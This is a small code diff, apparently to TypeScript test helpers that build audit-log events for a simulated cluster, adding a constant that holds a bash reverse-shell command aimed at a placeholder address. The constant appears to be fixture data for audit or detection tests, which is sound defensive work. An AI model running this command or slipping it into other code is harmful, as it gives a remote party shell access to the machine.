@@ -14,6 +14,9 @@ export const podOf = (world: World, namespace: string, [key, value]: readonly [s
   return found;
 };
 
+/** A command that gives a shell to somebody elsewhere, as the log writes it: its words joined, without quotes. */
+export const REVERSE_SHELL = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
+
 /** The audit log's message about a command that ana@example.com runs in the shop's first pod of this app. */
 export const execEvent = (
   world: World,
